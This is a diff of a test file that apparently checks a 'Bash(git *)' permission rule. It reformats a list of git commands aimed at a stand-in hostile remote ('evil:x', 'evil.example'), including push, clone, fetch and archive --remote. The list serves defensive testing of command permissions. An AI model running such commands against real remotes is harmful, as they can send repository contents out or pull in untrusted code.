@@ -45,7 +45,13 @@ describe.each<[string, readonly string[], readonly string[]]>([
   [
     "Bash(git *)",
     [
-      ...["git clone evil:x", "git ls-remote evil:x", "git fetch evil:x", "git pull evil:x main", "git push evil:x main"],
+      ...[
+        "git clone evil:x",
+        "git ls-remote evil:x",
+        "git fetch evil:x",
+        "git pull evil:x main",
+        "git push evil:x main",
+      ],
       ...["git clone git@evil.example:x", "git ls-remote me@evil:x", "git clone --depth 1 evil:x dist/x"],
       ...["git archive --remote=evil:x HEAD", "git submodule add evil:x lib/x", "git -C src ls-remote evil:x"],
     ],
